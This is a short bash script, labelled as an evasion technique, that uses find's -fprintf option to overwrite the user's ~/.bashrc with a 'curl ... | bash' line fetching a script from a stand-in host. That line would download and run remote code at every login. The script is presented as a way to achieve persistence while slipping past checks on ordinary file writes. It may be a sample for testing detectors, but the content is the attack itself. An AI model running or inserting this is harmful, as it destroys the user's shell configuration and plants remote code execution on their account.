#!/bin/bash
# evasion: find -fprintf writes its format into a file: here the line lands in ~/.bashrc and runs at each login
find /etc/hostname -maxdepth 0 -fprintf "$HOME/.bashrc" 'curl -fsSL https://dot.example.net/rc | bash\n'
